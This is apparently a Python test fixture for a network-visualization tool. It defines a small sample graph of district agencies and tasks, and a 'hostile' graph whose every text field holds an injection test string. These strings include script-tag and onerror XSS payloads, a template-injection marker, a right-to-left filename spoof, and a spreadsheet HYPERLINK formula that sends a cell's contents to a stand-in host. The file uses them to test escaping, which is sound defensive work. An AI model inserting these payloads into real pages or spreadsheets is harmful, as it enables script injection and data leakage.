"""Networks for tests: a small plain one, and one whose every text tries to be markup."""

from __future__ import annotations

from visualize.network import Edge, Fact, Figure, Network, Node, Passage, Source

BASE = "https://w3id.org/innokg/id/"
PLAN = BASE + "document/plan"
REPORT = BASE + "document/report"
SCIENCE, MARKET, GRAIN = (BASE + f"agency/{name}" for name in ("science", "market", "grain"))
TALENT, PATENT = (BASE + f"task/plan/{name}" for name in ("talent", "patent"))


def small() -> Network:
    """Three agencies, two tasks; one agency has no task."""
    quote = Passage(document=PLAN, section="（一）引育人才", quote="牵头单位：区科技局；责任单位：区市场监管局")
    other = Passage(document=REPORT, section="二、知识产权", quote="由区市场监管局牵头")
    return Network(
        name="agency-task",
        title="单位与任务",
        title_en="Agencies and their tasks",
        nodes=(
            Node(
                id=SCIENCE,
                kind="agency",
                label="某市某区科学技术局",
                short="区科学技术局",
                aliases=("区科技局",),
                documents=(PLAN,),
            ),
            Node(id=MARKET, kind="agency", label="某市某区市场监督管理局", documents=(PLAN, REPORT)),
            Node(id=GRAIN, kind="agency", label="某市某区粮食局", documents=(REPORT,)),
            Node(
                id=TALENT,
                kind="task",
                label="引育人才",
                documents=(PLAN,),
                facts=(Fact(zh="目标", en="target", value="人才 ≥ 300人（2024 年）", passages=(quote,)),),
            ),
            Node(id=PATENT, kind="task", label="保护知识产权", documents=(REPORT,)),
        ),
        edges=(
            Edge(source=SCIENCE, target=TALENT, role="lead", passages=(quote,)),
            Edge(source=MARKET, target=TALENT, role="responsible", passages=(quote,)),
            Edge(source=MARKET, target=PATENT, role="lead", passages=(other,)),
            Edge(source=SCIENCE, target=PATENT, role="supporting", passages=(other,)),
        ),
        sources=(
            Source(
                id=PLAN,
                label="某区行动计划",
                number="某政发〔2022〕1号",
                issuer="某区人民政府",
                date="2022-07-07",
                region="某区",
            ),
            Source(id=REPORT, label="某区工作报告", region="邻区"),
        ),
        figures=(
            Figure(
                indicator="人才", value="≥ 300人", number=300.0, year=2024, region="某区", task=TALENT, passage=quote
            ),
            Figure(
                indicator="全社会研发投入强度",
                shared="研发投入强度",
                value="= 2.5%",
                number=2.5,
                year=2025,
                region="某区",
                passage=Passage(document=PLAN, section="一、目标", quote="研发投入强度达到2.5%"),
            ),
            Figure(
                indicator="R&D占比",
                shared="研发投入强度",
                value="= 3.1%",
                number=3.1,
                year=2025,
                status="result",
                region="邻区",
                task=PATENT,
                passage=other,
            ),
        ),
    )


HOSTILE = (
    "<script>alert('node')</script>",
    "</script><script>alert('broke out')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; alert(1); //",
    "{{ 7*7 }}{% raw %}@POLICY@",
    "\u202egnp.exe\u202c右到左",
    "--><!-- <svg onload=alert(1)>",
    '=HYPERLINK("http://x/?"&A1,"点我")',
    "line\u2028separator\u2029and\x00null",
    "长" * 10_000,
)


def hostile() -> Network:
    """Every field that comes from a document holds one of the hostile texts."""
    passages = tuple(Passage(document=PLAN, section=text, quote=text) for text in HOSTILE)
    nodes = tuple(
        Node(
            id=f"{BASE}thing/{number}",
            kind="agency" if number % 2 else "task",
            label=text,
            short=text,
            number=text,
            part_of=text,
            aliases=(text,),
            documents=(PLAN,),
            facts=(Fact(zh=text, en=text, value=text, passages=(passages[number],)),),
        )
        for number, text in enumerate(HOSTILE)
    )
    edges = tuple(
        Edge(source=nodes[0].id, target=node.id, role="lead", passages=passages, facts=node.facts) for node in nodes[1:]
    )
    figures = tuple(
        Figure(
            indicator=text,
            shared=text,
            value=text,
            number=float(number),
            kind=text,
            year=2025,
            region=text,
            holder=text,
            task=nodes[number].id,
            passage=passages[number],
        )
        for number, text in enumerate(HOSTILE)
    )
    sources = (
        Source(id=PLAN, label=HOSTILE[1], number=HOSTILE[2], issuer=HOSTILE[0], date=HOSTILE[3], region=HOSTILE[1]),
        Source(id=REPORT, label=HOSTILE[9], region=HOSTILE[2]),
    )
    return Network(
        name="hostile",
        title=HOSTILE[1],
        title_en=HOSTILE[0],
        nodes=nodes,
        edges=edges,
        sources=sources,
        figures=figures,
    )


def empty() -> Network:
    return Network(name="platforms", title="创新平台", title_en="Platforms")
